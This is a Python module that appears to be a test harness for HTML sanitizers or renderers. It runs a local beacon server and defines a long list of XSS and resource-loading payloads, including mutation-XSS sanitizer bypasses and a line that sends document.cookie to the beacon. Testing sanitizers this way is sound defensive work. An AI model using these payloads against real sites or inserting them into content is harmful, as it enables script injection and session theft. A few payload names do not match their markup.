"""HTML that tries to do more than be read. Each piece contacts a beacon if it succeeds.

`how` says what triggers it without protection: opening it as a page, clicking, or parsing, serializing and parsing it again (as an HTML
sanitizer does, which has deceived many of them). Some old attacks need a browser that does not escape < in attributes.
"""

import asyncio
import re
from collections import defaultdict
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass, field
from html import escape
from typing import Literal

HEARD_S_MAX = 120.0  # only guards against waiting forever
PIXEL = b"<svg xmlns='http://www.w3.org/2000/svg' width='1' height='1'/>"


@dataclass
class Beacon:
    """The attacker's server: it records requests, and serves pages on which everything is allowed."""

    port: int = 0
    asked: list[str] = field(default_factory=list)  # paths
    heads: dict[str, str] = field(default_factory=dict)  # their headers
    pages: dict[str, str] = field(default_factory=dict)
    _heard: defaultdict[str, asyncio.Event] = field(default_factory=lambda: defaultdict(asyncio.Event))

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    async def heard(self, path: str) -> None:
        async with asyncio.timeout(HEARD_S_MAX):
            await self._heard[path].wait()

    async def answer(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with suppress(OSError, asyncio.IncompleteReadError):
            head = (await reader.readuntil(b"\r\n\r\n")).decode()
            path = head.split(" ")[1]
            kind, body = "image/svg+xml", PIXEL
            if path in self.pages:
                kind, body = "text/html; charset=utf-8", self.pages[path].encode()
            elif path != "/favicon.ico":
                self.asked.append(path)
                self.heads[path] = head
                self._heard[path.partition("?")[0]].set()
            answer = f"HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {len(body)}\r\nAccess-Control-Allow-Origin: *\r\nConnection: close\r\n\r\n"
            writer.write(answer.encode() + body)
            await writer.drain()
        writer.close()


@asynccontextmanager
async def lit() -> AsyncIterator[Beacon]:
    beacon = Beacon()
    server = await asyncio.start_server(beacon.answer, "127.0.0.1", 0)
    beacon.port = server.sockets[0].getsockname()[1]
    try:
        yield beacon
    finally:
        server.close()


How = Literal["opened", "clicked", "reparsed", "of old"]


@dataclass(frozen=True)
class Payload:
    name: str
    html: str  # JS is the code that it runs; URL is the address that it requests
    how: How = "opened"

    @property
    def path(self) -> str:
        return "/" + re.sub(r"\W+", "-", self.name).lower()

    def at(self, beacon: Beacon) -> str:
        url = beacon.url + self.path
        run = f"fetch(`{url}`)"
        return self.html.replace("JS", run).replace("ESCAPED", escape(run)).replace("URL", url)


PAYLOADS = (
    # scripts
    Payload("script", "<script>JS</script>"),
    Payload("script after the end", "<p>x</p></body></html><script>JS</script>"),
    Payload("script in the head", "<html><head><title></title><script>JS</script></head><body>x"),
    Payload("script of svg", "<svg><script>JS</script></svg>"),
    Payload("script fetched", '<script src="URL"></script>'),
    Payload("script of a data URL", '<script src="data:text/javascript,JS"></script>'),
    Payload("module", '<script type="module">JS</script>'),
    Payload("preload", '<link rel="preload" as="image" href="URL">'),
    # handlers
    Payload("onerror", '<img src="data:," onerror="JS">'),
    Payload("onload of the body", '<body onload="JS">x'),
    Payload("onload of svg", '<svg onload="JS"></svg>'),
    Payload("onload of style", '<style onload="JS"></style>'),
    Payload("onbegin", '<svg><animate onbegin="JS" attributeName="x" dur="1s"></animate></svg>'),
    Payload("onfocus", '<input autofocus onfocus="JS">'),
    Payload("ontoggle", '<details open ontoggle="JS">x</details>'),
    Payload("onanimationstart", '<style>@keyframes a {}</style><p style="animation: a 1s" onanimationstart="JS">x</p>'),
    Payload("onerror of a source", '<video><source onerror="JS" src="data:,"></video>'),
    # links
    Payload("javascript link", '<a id="go" href="javascript:void(JS)">x</a>', "clicked"),
    Payload("javascript link to the top", '<a id="go" target="_top" href="javascript:void(JS)">x</a>', "clicked"),
    Payload("javascript with a tab", '<a id="go" href="java\tscript:void(JS)">x</a>', "clicked"),
    Payload("javascript link of svg", '<svg width="99" height="99"><a id="go" xlink:href="javascript:void(JS)"><text y="20">x</text></a></svg>', "clicked"),
    Payload(
        "javascript by animation",
        '<svg width="99" height="99"><a id="go"><animate attributeName="href" values="javascript:void(JS)"></animate><text y="20">x</text></a></svg>',
        "clicked",
    ),
    Payload("javascript area", '<img usemap="#m" width="99" height="99" id="go" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><map name="m"><area shape="default" href="javascript:void(JS)"></map>', "clicked"),
    Payload("ping", '<a id="go" href="#x" ping="URL">x</a>', "clicked"),
    Payload("link to the top", '<a id="go" target="_top" href="URL">x</a>', "clicked"),
    # other documents
    Payload("iframe", '<iframe src="URL"></iframe>'),
    Payload("iframe with a srcdoc", '<iframe srcdoc="<script>ESCAPED</script>"></iframe>'),
    Payload("iframe of javascript", '<iframe src="javascript:void(JS)"></iframe>'),
    Payload("frameset", '<frameset><frame src="URL"></frameset>'),
    Payload("object", '<object data="URL"></object>'),
    Payload("embed", '<embed src="URL">'),
    Payload("refresh", '<meta http-equiv="refresh" content="0;url=URL">'),
    Payload("refresh to javascript through a frame", '<iframe srcdoc="<meta http-equiv=refresh content=\'0;url=URL\'>"></iframe>'),
    Payload("base", '<base href="URL"><img src="?">'),
    # forms
    Payload("form sent by a script", '<form id="f" action="URL"></form><script>f.submit()</script>'),
    Payload("form", '<form action="URL"><button id="go">x</button></form>', "clicked"),
    Payload("button with an action of its own", '<form><button id="go" formaction="URL">x</button></form>', "clicked"),
    Payload("button of javascript", '<form><button id="go" formaction="javascript:void(JS)">x</button></form>', "clicked"),
    # tracking
    Payload("image", '<img src="URL">'),
    Payload("image set", '<img srcset="URL 1x">'),
    Payload("picture", '<picture><source srcset="URL"><img></picture>'),
    Payload("image of svg", '<svg><image href="URL"></image></svg>'),
    Payload("input of an image", '<input type="image" src="URL">'),
    Payload("background", '<body background="URL">x'),
    Payload("poster", '<video poster="URL"></video>'),
    Payload("video", '<video src="URL" autoplay muted></video>'),
    Payload("audio", '<audio src="URL" autoplay></audio>'),
    Payload("track", '<video src="data:,"><track default src="URL"></video><script>document.querySelector("track").track.mode = "showing"</script>'),
    Payload("stylesheet", '<link rel="stylesheet" href="URL">'),
    Payload("icon of the page", '<link rel="prefetch" href="URL">'),
    Payload("import of css", "<style>@import 'URL';</style>"),
    Payload("background of css", "<p style=\"background: url('URL')\">x</p>"),
    Payload("content of css", "<style>p::before { content: url(URL) }</style><p>x</p>"),
    Payload("font of css", "<style>@font-face { font-family: f; src: url(URL) } p { font-family: f }</style><p>x</p>"),
    Payload("filter of css", '<p style="mask-image: url(URL)">x</p>'),
    # the surrounding page
    Payload("message to the parent", '<script>parent.postMessage("ready", "*"); JS</script>'),
    Payload("the top moved", "<script>top.location = 'URL'</script>"),
    Payload("a window", "<script>window.open('URL')</script>"),
    Payload("cookies", "<script>new Image().src = 'URL?' + document.cookie; JS</script>"),
    Payload("the parent's document", '<img src="data:," onerror="parent.document.title = 1; JS">'),
    # markup that changes when it is parsed again
    Payload("noscript", '<noscript><p title="</noscript><img src=data:, onerror=JS>"></noscript>', "of old"),
    Payload("mathml and style", "<form><math><mtext></form><form><mglyph><style></math><img src=data:, onerror=JS>", "reparsed"),
    Payload("mathml and a table", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=data:, onerror=JS&gt;\">", "of old"),
    Payload("xmp", '<xmp><p title="</xmp><img src=data:, onerror=JS>"></xmp>'),
    Payload("comment that ends early", "<!--><img src=data:, onerror=JS>-->"),
    Payload("template with a shadow", '<div><template shadowrootmode="open"><img src="data:," onerror="JS"></template></div>'),
    Payload("template in a script's way", "<template><s></template><script>JS</script></s>"),
    Payload("attribute that breaks out", '<p title=\'"><img src=data:, onerror=JS>\'></p><img src="data:,"onerror="JS">'),
)  # fmt: skip
